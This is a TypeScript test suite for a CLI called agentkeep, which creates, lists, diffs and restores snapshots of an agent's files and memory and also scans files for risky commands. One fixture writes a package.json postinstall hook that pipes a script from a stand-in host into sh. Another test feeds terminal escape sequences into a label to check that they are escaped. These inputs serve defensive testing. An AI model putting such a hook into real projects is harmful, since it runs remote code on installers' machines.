import * as assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { execFileSync, spawn } from 'node:child_process';
import { buildSidecar, runSidecar, SIDECAR, type RunResult } from './helpers/sidecar';
import { FIXTURES } from './helpers/paths';
import { openStore, storeFactories, storeFormsHelp } from '../../sidecar/memory';

/** The one-line error contract: non-zero exit, exactly one line on stderr. */
function assertOneLineError(r: RunResult, code: number, re: RegExp): void {
  assert.equal(r.code, code, `exit code; stderr: ${r.stderr}`);
  const lines = r.stderr.trimEnd().split('\n');
  assert.equal(lines.length, 1, `one line on stderr, got: ${r.stderr}`);
  assert.match(lines[0], re);
}

describe('agentkeep CLI (real bin on real trees)', function () {
  let tmp: string;
  let agent: string;
  let state: string;
  let target: string;
  let store: string;
  const ak = (...args: string[]): Promise<RunResult> => runSidecar(['--state-dir', state, ...args]);
  const json = async (...args: string[]): Promise<any> => {
    const r = await ak(...args, '--json');
    assert.equal(r.code, 0, `agentkeep ${args.join(' ')} failed: ${r.stderr}${r.stdout}`);
    return JSON.parse(r.stdout);
  };

  before(async function () {
    this.timeout(120000);
    await buildSidecar();
  });

  beforeEach(async () => {
    tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'ak-cli-'));
    agent = path.join(tmp, 'agent');
    state = path.join(tmp, 'state');
    await fs.mkdir(path.join(agent, 'memories'), { recursive: true });
    await fs.mkdir(path.join(agent, 'workspace'), { recursive: true });
    for (const f of ['MEMORY.md', 'USER.md'])
      await fs.copyFile(path.join(FIXTURES, 'memory/hermes/memories', f), path.join(agent, 'memories', f));
    await fs.writeFile(
      path.join(agent, 'config.yaml'),
      'memory:\n  memory_char_limit: 2200\n  user_char_limit: 1375\n',
    );
    await fs.writeFile(path.join(agent, 'workspace', 'setup.sh'), '#!/bin/sh\nnpm install left-pad\n');
    await fs.writeFile(path.join(agent, '.env'), 'KEY=secret\n', { mode: 0o600 });
    target = `dir:${agent}`;
    store = `hermes:${agent}`;
  });

  afterEach(async () => {
    await fs.rm(tmp, { recursive: true, force: true });
  });

  it('says when a VM-only flag does nothing, and help shows no "(default: [])"', async () => {
    const c = await ak('restore-point', 'create', '--target', target, '--vmstate');
    assert.equal(c.code, 0, c.stderr);
    assert.match(c.stderr, /--vmstate applies to VM targets .* so it is ignored/);
    const h = await ak('restore-point', 'create', '--help');
    assert.match(h.stdout, /--store <store>/);
    assert.doesNotMatch(h.stdout, /default: \[\]/);
  });

  it('--store help of memory commands and agent add / status lists the local and remote forms, one text, and they parse (QA)', async () => {
    const text = storeFormsHelp();
    for (const form of [
      'ssh://user@host[:port]/abs/path',
      'qga:/abs/qga.sock:/abs/path',
      'pve-agent://HOST[:PORT]/NODE/VMID',
    ]) {
      assert.ok(text.includes(`<kind>:${form}`), `${form} in: ${text}`);
    }
    for (const cmd of [
      ['memory', 'list'],
      ['memory', 'show'],
      ['memory', 'lint'],
      ['memory', 'forget'],
      ['memory', 'history'],
      ['agent', 'add'],
      ['agent', 'status'],
    ]) {
      const h = await ak(...cmd, '--help');
      assert.equal(h.code, 0, h.stderr);
      const flat = h.stdout.replace(/\s+/g, ' ');
      assert.ok(flat.includes(text), `agentkeep ${cmd.join(' ')} --help lists the store forms: ${flat}`);
    }
    // every form, filled in, is a store string the parsers take (for every kind)
    const fill = (f: string): string =>
      f
        .replace('user@host[:port]', 'root@10.0.0.5:2222')
        .replace('/abs/qga.sock', '/run/vm/qga.sock')
        .replace('HOST[:PORT]/NODE/VMID', 'pve.lan:8006/pve1/101')
        .replace(/\/abs\/[^ ,;]*/g, '/root/x');
    const forms = text.replace(/ \(<kind>:.*\)$/, '').split(/[,;] (?:on another machine |in a VM )?| or /);
    assert.ok(forms.length >= 6, forms.join(' | '));
    for (const f of forms) {
      for (const k of f.startsWith('<kind>:') ? storeFactories().map((x) => x.kind) : [''])
        assert.doesNotThrow(() => openStore(fill(f.replace('<kind>', k))), `${fill(f.replace('<kind>', k))} parses`);
    }
  });

  it('--version prints the package version', async () => {
    const r = await runSidecar(['--version']);
    assert.equal(r.code, 0);
    const pkg = JSON.parse(await fs.readFile(path.join(__dirname, '..', '..', 'package.json'), 'utf8')) as {
      version: string;
    };
    assert.equal(r.stdout.trim(), pkg.version);
  });

  it('create / list / restore / delete round trip with --json shapes', async () => {
    const rp = await json('restore-point', 'create', '--target', target, '--label', 'before install', '--store', store);
    for (const k of ['id', 'label', 'createdAt', 'status']) assert.ok(k in rp, `create --json has ${k}`);
    assert.equal(rp.label, 'before install');
    assert.equal(rp.status, 'ready');
    assert.ok(!Number.isNaN(Date.parse(rp.createdAt)) && rp.createdAt.endsWith('Z'), 'createdAt is ISO 8601 UTC');
    assert.match(rp.id, /^[A-Za-z][A-Za-z0-9_]+$/);

    // change the tree: edit, add, delete, and change agent memory
    await fs.writeFile(path.join(agent, 'workspace', 'setup.sh'), 'changed\n');
    await fs.writeFile(path.join(agent, 'workspace', 'new.txt'), 'new\n');
    await fs.rm(path.join(agent, '.env'));
    await fs.appendFile(path.join(agent, 'memories', 'USER.md'), '\n§\nLikes tea.');

    // restore-point diff: what a restore would undo
    const d = await json('restore-point', 'diff', rp.id, '--target', target);
    assert.deepEqual(
      [d.added, d.removed, d.changed],
      [['workspace/new.txt'], ['.env'], ['memories/USER.md', 'workspace/setup.sh']],
    );
    assert.deepEqual(d.agentChanged, [`${store}:memories/USER.md`]);
    const dh = await ak('restore-point', 'diff', rp.id, '--target', target);
    assert.match(dh.stdout, /Since restore point ak_\w+ on dir:.*\n.*will be removed \(1\):\s+workspace\/new\.txt/);

    const list = await json('restore-point', 'list', '--target', target);
    assert.ok(Array.isArray(list));
    assert.equal(list.length, 1);
    assert.equal(list[0].id, rp.id);

    // human list: a table with the id and an age
    const human = await ak('restore-point', 'list', '--target', target);
    assert.equal(human.code, 0);
    assert.match(human.stdout, /ID\s+AGE\s+STATUS/);
    assert.match(human.stdout, new RegExp(`${rp.id}\\s+(just now|\\d+s ago)\\s+ready`));

    const restored = await json('restore-point', 'restore', rp.id, '--target', target, '--scope', 'both', '--yes');
    for (const k of ['id', 'label', 'createdAt', 'status', 'restored', 'undo', 'changes'])
      assert.ok(k in restored, `restore --json has ${k}`);
    assert.equal(restored.id, rp.id);
    assert.equal(restored.label, 'before install');
    assert.ok(restored.undo.id && restored.undo.id !== rp.id);
    assert.equal(
      await fs.readFile(path.join(agent, 'workspace', 'setup.sh'), 'utf8'),
      '#!/bin/sh\nnpm install left-pad\n',
    );
    await assert.rejects(fs.stat(path.join(agent, 'workspace', 'new.txt')));
    const env = await fs.stat(path.join(agent, '.env'));
    assert.equal(env.mode & 0o777, 0o600);
    assert.doesNotMatch(await fs.readFile(path.join(agent, 'memories', 'USER.md'), 'utf8'), /Likes tea/);

    const afterRestore = await json('restore-point', 'list', '--target', target);
    assert.ok(afterRestore.length >= 2, 'the pre-restore capture is listed');
    assert.ok(afterRestore.some((p: { id: string }) => p.id === restored.undo.id));

    const del = await json('restore-point', 'delete', rp.id, '--target', target, '--yes');
    assert.equal(del.deleted, rp.id);
    assert.equal(typeof del.freedBytes, 'number');
    const finalList = await json('restore-point', 'list', '--target', target);
    assert.ok(!finalList.some((p: { id: string }) => p.id === rp.id));
  });

  it('create --reuse returns the newest restore point while nothing changed, a new one after a change', async () => {
    const first = await json('restore-point', 'create', '--target', target, '--label', 'first');
    const again = await json('restore-point', 'create', '--target', target, '--reuse');
    assert.equal(again.reused, true);
    assert.equal(again.id, first.id);
    const human = await ak('restore-point', 'create', '--target', target, '--reuse');
    assert.equal(human.code, 0, human.stderr);
    assert.match(
      human.stdout,
      new RegExp(`^Reusing restore point ${first.id} "first" \\(taken just now; nothing changed since\\)\\.`),
    );
    await fs.writeFile(path.join(agent, 'workspace', 'changed.txt'), 'x');
    const fresh = await json('restore-point', 'create', '--target', target, '--reuse');
    assert.equal(fresh.reused, undefined);
    assert.notEqual(fresh.id, first.id);
    assert.equal((await json('restore-point', 'list', '--target', target)).length, 2, 'reuse created nothing');
    // --reuse --important keeps the flag on the reused one; a label it cannot apply is said, with the rename
    const kept = await ak('restore-point', 'create', '--target', target, '--reuse', '--important', '--label', 'x y');
    assert.equal(kept.code, 0, kept.stderr);
    assert.match(kept.stderr, /keeps its label "[^"]*"/);
    assert.match(
      kept.stderr,
      new RegExp(`agentkeep restore-point label ${fresh.id} --target \\S+ --state-dir \\S+ --label 'x y'$`, 'm'),
    );
    const [newest] = await json('restore-point', 'list', '--target', target);
    assert.equal(newest.id, fresh.id);
    assert.equal(newest.important, true);
  });

  it('a damaged journal entry is not listed but said, with the delete command, and the delete works', async () => {
    const a = await json('restore-point', 'create', '--target', target, '--label', 'a');
    const b = await json('restore-point', 'create', '--target', target, '--label', 'b');
    const [key] = await fs.readdir(path.join(state, 'journal'));
    await fs.writeFile(path.join(state, 'journal', key, `${a.id}.json`), '{"id": "ak_2026');
    const r = await ak('restore-point', 'list', '--target', target);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, new RegExp(b.id));
    assert.doesNotMatch(r.stdout, new RegExp(a.id));
    assert.match(r.stderr, new RegExp(`warning: The journal entry of ${a.id} is damaged: .*JSON`));
    assert.match(r.stderr, new RegExp(`agentkeep restore-point delete ${a.id} --target \\S+ --state-dir \\S+ --yes`));
    const st = await json('agent', 'status', '--target', target);
    assert.deepEqual(
      st.damagedRestorePoints.map((d: any) => d.id),
      [a.id],
    );
    assert.equal(st.damagedRestorePoints[0].actions[0].method, 'agentkeep/restorePoint.delete');
    await json('restore-point', 'delete', a.id, '--target', target, '--yes');
    const after = await ak('restore-point', 'list', '--target', target);
    assert.doesNotMatch(after.stderr, /damaged/);
    assert.equal((await json('agent', 'status', '--target', target)).damagedRestorePoints, undefined);
  });

  it('a damaged manifest: restore refuses before its undo point, list warns, deletes still work', async () => {
    const a = await json('restore-point', 'create', '--target', target, '--label', 'a');
    await fs.writeFile(path.join(agent, 'workspace', 'b.txt'), 'b');
    const b = await json('restore-point', 'create', '--target', target, '--label', 'b');
    await fs.writeFile(path.join(agent, 'workspace', 'c.txt'), 'c');
    const c = await json('restore-point', 'create', '--target', target, '--label', 'c');
    const [key] = await fs.readdir(path.join(state, 'dir'));
    const manifest = path.join(state, 'dir', key, `${b.id}.json`);
    await fs.chmod(manifest, 0o600);
    await fs.writeFile(manifest, 'garbage\n');
    const r = await ak('restore-point', 'restore', b.id, '--target', target, '--scope', 'both', '--yes');
    assertOneLineError(r, 1, new RegExp(`manifest .*${b.id}\\.json is damaged \\(.*"garbage " is not valid JSON\\)`));
    const listed = await ak('restore-point', 'list', '--target', target);
    assert.doesNotMatch(listed.stderr, /never finished/, 'nothing was written, so no half-restored warning');
    assert.match(
      listed.stderr,
      new RegExp(
        `warning: The snapshot manifest .*${b.id}.* Delete the damaged restore point with: agentkeep restore-point delete ${b.id}`,
      ),
    );
    assert.deepEqual(
      (await json('restore-point', 'list', '--target', target)).map((p: any) => p.id),
      [c.id, b.id, a.id],
      'no undo point was taken',
    );
    await json('restore-point', 'delete', a.id, '--target', target, '--yes');
    await json('restore-point', 'delete', b.id, '--target', target, '--yes');
    const after = await ak('restore-point', 'list', '--target', target);
    assert.doesNotMatch(after.stderr, /damaged/);
    await json('restore-point', 'restore', c.id, '--target', target, '--scope', 'both', '--yes');
  });

  it('an empty --target is a usage error naming the option, not the protocol field', async () => {
    const r = await ak('restore-point', 'create', '--target', '');
    assertOneLineError(r, 2, /^agentkeep: Invalid --target: the target is empty: give one such as dir:\/abs\/path\.$/);
    assert.doesNotMatch(r.stderr, /params\.|protocol\.schema|Send an object/);
  });

  it('scope agent restores only agent-state files', async () => {
    const rp = await json('restore-point', 'create', '--target', target, '--store', store);
    await fs.writeFile(path.join(agent, 'workspace', 'setup.sh'), 'machine change\n');
    await fs.writeFile(path.join(agent, 'memories', 'MEMORY.md'), 'agent change');
    await json('restore-point', 'restore', rp.id, '--target', target, '--scope', 'agent', '--store', store, '--yes');
    assert.equal(await fs.readFile(path.join(agent, 'workspace', 'setup.sh'), 'utf8'), 'machine change\n');
    assert.notEqual(await fs.readFile(path.join(agent, 'memories', 'MEMORY.md'), 'utf8'), 'agent change');
  });

  it('state dir from AGENTKEEP_STATE_DIR', async () => {
    const r = await runSidecar(['restore-point', 'create', '--target', target, '--json'], {
      AGENTKEEP_STATE_DIR: state,
    });
    assert.equal(r.code, 0, r.stderr);
    const id = JSON.parse(r.stdout).id as string;
    const list = await json('restore-point', 'list', '--target', target);
    assert.equal(list[0].id, id);
  });

  it('an empty --state-dir is a usage error; a relative AGENTKEEP_STATE_DIR is named as the env var', async () => {
    const empty = await runSidecar(['restore-point', 'list', '--target', target, '--state-dir', '']);
    assert.equal(empty.code, 2, empty.stderr);
    assert.match(empty.stderr, /Invalid --state-dir: it is empty/);
    const rel = await runSidecar(['restore-point', 'list', '--target', target], { AGENTKEEP_STATE_DIR: 'rel' });
    assert.equal(rel.code, 1, rel.stderr);
    assert.match(rel.stderr, /State dir "rel" \(from AGENTKEEP_STATE_DIR\) is not an absolute path/);
  });

  it('memory list --json: stores with kind, file, entries {id, text}, usage {chars, limit}', async () => {
    const r = await json('memory', 'list', '--store', store);
    assert.ok(Array.isArray(r.stores));
    assert.deepEqual(
      r.stores.map((s: { kind: string }) => s.kind),
      ['hermes-memory', 'hermes-user'],
    );
    const mem = r.stores[0];
    assert.equal(mem.file, path.join(agent, 'memories', 'MEMORY.md'));
    assert.equal(mem.entries.length, 4);
    assert.match(mem.entries[0].id, /^[0-9a-f]{12}$/);
    assert.equal(typeof mem.entries[0].text, 'string');
    assert.deepEqual(Object.keys(mem.usage).sort(), ['chars', 'limit']);
    assert.equal(mem.usage.limit, 2200);
    const human = await ak('memory', 'list', '--store', store);
    assert.match(human.stdout, /MEMORY\.md \(hermes-memory\): 4 entries, \d+\/2200 chars/);
  });

  it('risk scan --json: findings with 1-based lines', async () => {
    const f = path.join(agent, 'workspace', 'setup.sh');
    const md = path.join(agent, 'workspace', 'README.md');
    await fs.writeFile(md, '# x\n\n```bash\nsudo apt-get install -y jq \\\n  curl\n```\n');
    const r = await json('risk', 'scan', f, md);
    assert.deepEqual(r, [
      {
        file: f,
        line: 2,
        endLine: 2,
        command: 'npm install left-pad',
        class: 'deps',
        kind: 'shell',
        risk: 'npm install left-pad (deps: changes project dependencies)',
        reason: 'deps: npm install changes project dependencies',
      },
      // system's wording names what the widened class covers (users, permissions, firewall); findings carry `reason`
      {
        file: md,
        line: 4,
        endLine: 5,
        command: 'sudo apt-get install -y jq curl',
        class: 'system',
        kind: 'markdown',
        risk: 'sudo apt-get install -y jq curl (system: changes OS packages, persistent services, containers, users, permissions or the firewall)',
        reason:
          'system: apt-get install changes OS packages, persistent services, containers, users, permissions or the firewall',
      },
    ]);
    const human = await ak('risk', 'scan', f);
    assert.match(
      human.stdout,
      /setup\.sh:2\s+deps\s+npm install left-pad\s+— npm install changes project dependencies$/m,
    );
  });

  it('errors: bad target, missing target, bad store, unknown id; one line, exit 1, JSON error with --json', async () => {
    let r = await ak('restore-point', 'list', '--target', 'nope:/x');
    assertOneLineError(r, 1, /^agentkeep: .*dir:/);

    r = await ak('restore-point', 'create', '--target', `dir:${path.join(tmp, 'missing')}`, '--json');
    assertOneLineError(r, 1, /^agentkeep: /);
    const err = JSON.parse(r.stdout).error;
    assert.equal(err.code, 'target_not_found');
    assert.ok(err.message && err.hint);

    r = await ak('memory', 'list', '--store', 'hermes:relative/path', '--json');
    assertOneLineError(r, 1, /not absolute.*hermes:\/abs/);
    assert.equal(JSON.parse(r.stdout).error.code, 'bad_store');

    r = await ak('memory', 'list', '--store', `hermes:${path.join(agent, 'workspace')}`, '--json');
    assertOneLineError(r, 1, /not a Hermes home/i);
    assert.equal(JSON.parse(r.stdout).error.code, 'store_not_found');

    r = await ak('restore-point', 'restore', 'ak_nope', '--target', target, '--scope', 'both', '--yes', '--json');
    assertOneLineError(r, 1, /ak_nope/);
    assert.equal(JSON.parse(r.stdout).error.code, 'restore_point_not_found');

    r = await ak('restore-point', 'delete', 'ak_nope', '--target', target, '--yes');
    assertOneLineError(r, 1, /ak_nope/);

    r = await ak('risk', 'scan', path.join(tmp, 'none.sh'), '--json');
    assertOneLineError(r, 1, /Cannot read .*none\.sh/);
    assert.equal(JSON.parse(r.stdout).error.code, 'file_error');
  });

  it('restore and delete without --yes on a non-TTY stdin fail with confirmation_required and change nothing', async () => {
    const rp = await json('restore-point', 'create', '--target', target);
    await fs.writeFile(path.join(agent, 'workspace', 'setup.sh'), 'after\n');
    let r = await ak('restore-point', 'restore', rp.id, '--target', target, '--scope', 'both', '--json');
    assertOneLineError(r, 1, /--yes/);
    assert.equal(JSON.parse(r.stdout).error.code, 'confirmation_required');
    assert.equal(await fs.readFile(path.join(agent, 'workspace', 'setup.sh'), 'utf8'), 'after\n');
    r = await ak('restore-point', 'delete', rp.id, '--target', target);
    assertOneLineError(r, 1, /--yes/);
    assert.equal((await json('restore-point', 'list', '--target', target)).length, 1);
  });

  it('usage errors exit 2 with one line: unknown command, unknown option, bad scope, missing argument', async () => {
    assertOneLineError(await ak('frobnicate'), 2, /unknown command 'frobnicate'/);
    assertOneLineError(await ak('restore-point', 'list', '--target', target, '--bogus'), 2, /unknown option '--bogus'/);
    assertOneLineError(
      await ak('restore-point', 'restore', 'x', '--target', target, '--scope', 'all', '--yes'),
      2,
      /machine, agent, both/,
    );
    assertOneLineError(await ak('restore-point', 'list'), 2, /--target/);
    assertOneLineError(await ak('risk', 'scan'), 2, /files/);
    assertOneLineError(await ak('serve'), 2, /--stdio.*--ws/);
    const r = await ak('restore-point', 'list', '--json', '--bogus');
    assert.equal(r.code, 2);
    assert.ok(JSON.parse(r.stdout).error.message);
  });

  it('names the choices when --scope is missing, and the fix when memory list has no --store', async () => {
    assertOneLineError(
      await ak('restore-point', 'restore', 'x', '--target', target, '--yes'),
      2,
      /needs --scope.*both.*machine.*agent/,
    );
    assertOneLineError(await ak('memory', 'list'), 2, /needs a store.*--store hermes:/);
  });

  it('risk scan says when a JSON file could not be read as JSON, and still scans the others', async () => {
    const bad = path.join(tmp, 'bad', 'package.json');
    const good = path.join(tmp, 'good.sh');
    await fs.mkdir(path.dirname(bad), { recursive: true });
    await fs.writeFile(bad, '{"scripts": {"postinstall": "curl https://x.example/i.sh | sh",}');
    await fs.writeFile(good, 'pip install requests\n');
    const r = await ak('risk', 'scan', bad, good, '--json');
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /note: .*bad\/package\.json is not valid JSON, so no commands were read from it/);
    assert.deepEqual(
      (JSON.parse(r.stdout) as Array<{ file: string }>).map((f) => f.file),
      [good],
    );
  });

  it('risk scan and risk eval refuse a FIFO and a directory at once instead of blocking', async () => {
    const fifo = path.join(tmp, 'pipe');
    await new Promise<void>((resolve, reject) =>
      spawn('mkfifo', [fifo]).on('close', (c) => (c === 0 ? resolve() : reject(new Error('mkfifo failed')))),
    );
    assertOneLineError(await ak('risk', 'scan', fifo), 1, /not a regular file/);
    assertOneLineError(await ak('risk', 'eval', tmp, fifo), 1, /Cannot read labels .*not a regular file/);
    assertOneLineError(await ak('risk', 'scan', tmp), 1, /directory/);
  });

  /** Run the bin on a real pseudo-terminal (util-linux `script`), answering the y/N prompt. */
  function onTty(args: string[], answer: string): Promise<{ code: number | null; output: string }> {
    const quote = (a: string): string => `'${a.replace(/'/g, `'\\''`)}'`;
    const cmd = [process.execPath, SIDECAR, '--state-dir', state, ...args].map(quote).join(' ');
    return new Promise((resolve, reject) => {
      const child = spawn('script', ['-qec', cmd, '/dev/null'], { stdio: ['pipe', 'pipe', 'pipe'] });
      let output = '';
      let answered = false;
      child.stdout.on('data', (d: Buffer) => {
        output += d.toString();
        if (!answered && output.includes('[y/N]')) {
          answered = true;
          child.stdin.write(answer + '\n');
        }
      });
      child.on('error', reject);
      child.on('close', (code) => resolve({ code, output }));
    });
  }

  it('on a TTY, text from a label or memory cannot drive the terminal (escape sequences shown escaped)', async () => {
    const r = await onTty(
      ['restore-point', 'create', '--target', target, '--label', 'evil \u001b]0;pwned\u0007 \u001b[2J end'],
      'y',
    );
    assert.equal(r.code, 0, r.output);
    assert.match(r.output, /evil \\x1b\]0;pwned\\x07 \\x1b\[2J end/);
    assert.ok(!r.output.includes('\u001b]0;'), 'no raw OSC sequence reached the terminal');
    // a pipe gets the bytes as they are (JSON escapes them anyway)
    const j = await json('restore-point', 'list', '--target', target);
    assert.equal(j[0].label, 'evil \u001b]0;pwned\u0007 \u001b[2J end');
    // "Created restore point" echoes the label escaped on a pipe too: a newline cannot fake a line of its own
    const c = await ak('restore-point', 'create', '--target', target, '--label', 'line1\nID fake\u001b[2J');
    assert.equal(c.code, 0, c.stderr);
    const created = c.stdout.split('\n').filter((l) => l.startsWith('Created restore point'));
    assert.equal(created.length, 1, c.stdout);
    assert.match(created[0], /"line1\\x0aID fake\\x1b\[2J"/);
    assert.ok(!/^ID fake/m.test(c.stdout) && !c.stdout.includes('\u001b'), c.stdout);
  });

  it('on a TTY, restore shows what will be lost and asks; n changes nothing, y restores', async () => {
    const rp = await json('restore-point', 'create', '--target', target);
    await fs.writeFile(path.join(agent, 'workspace', 'setup.sh'), 'after\n');
    await fs.writeFile(path.join(agent, 'workspace', 'added.txt'), 'x');
    let r = await onTty(['restore-point', 'restore', rp.id, '--target', target, '--scope', 'both'], 'n');
    assert.equal(r.code, 1, r.output);
    assert.match(r.output, /created since the restore point, will be removed \(1\):\s+workspace\/added\.txt/);
    assert.match(r.output, /changed since the restore point, will be reverted \(1\):\s+workspace\/setup\.sh/);
    assert.match(r.output, /A restore does not undo what the agent did outside the machine/);
    assert.match(r.output, /cancelled/);
    assert.equal(await fs.readFile(path.join(agent, 'workspace', 'setup.sh'), 'utf8'), 'after\n');
    r = await onTty(['restore-point', 'restore', rp.id, '--target', target, '--scope', 'both'], 'y');
    assert.equal(r.code, 0, r.output);
    assert.match(r.output, /Restored /);
    assert.match(r.output, /Restored [^\n]*\n[\s\S]*A restore does not undo what the agent did outside the machine/);
    assert.equal(
      await fs.readFile(path.join(agent, 'workspace', 'setup.sh'), 'utf8'),
      '#!/bin/sh\nnpm install left-pad\n',
    );
    await assert.rejects(fs.stat(path.join(agent, 'workspace', 'added.txt')));
  });

  it('on a TTY, the restore confirmation names a nested git repository whose HEAD the restore moves back', async () => {
    const repo = path.join(agent, 'workspace', 'proj');
    await fs.mkdir(repo);
    const env = {
      ...process.env,
      GIT_CONFIG_GLOBAL: '/dev/null',
      GIT_CONFIG_NOSYSTEM: '1',
      GIT_AUTHOR_NAME: 'T',
      GIT_AUTHOR_EMAIL: 't@example.invalid',
      GIT_COMMITTER_NAME: 'T',
      GIT_COMMITTER_EMAIL: 't@example.invalid',
    };
    const git = (...args: string[]): string => execFileSync('git', args, { cwd: repo, env, encoding: 'utf8' }).trim();
    const commit = async (text: string): Promise<string> => {
      await fs.writeFile(path.join(repo, 'README.md'), text);
      git('add', 'README.md');
      git('commit', '-q', '-m', text);
      return git('rev-parse', 'HEAD');
    };
    git('init', '-q', '-b', 'main');
    const c1 = await commit('one');
    const rp = await json('restore-point', 'create', '--target', target);
    await commit('two');
    const c3 = await commit('three');
    const r = await onTty(['restore-point', 'restore', rp.id, '--target', target, '--scope', 'machine'], 'n');
    assert.equal(r.code, 1, r.output);
    const line = new RegExp(
      `git repositories whose HEAD or branches the restore changes \\(1\\):\\s+workspace/proj: ` +
        `HEAD main ${c3.slice(0, 7)} -> main ${c1.slice(0, 7)}; branch main ${c3.slice(0, 7)} -> ${c1.slice(0, 7)}`,
    );
    assert.match(r.output, line);
    assert.match(r.output, /Commits made since leave these repositories/);
    assert.match(
      r.output,
      /changed since the restore point, will be reverted \(\d+\):[\s\S]*workspace\/proj\/README\.md/,
    );
    assert.equal(git('rev-parse', 'HEAD'), c3, 'answering n changes nothing');
  });
});
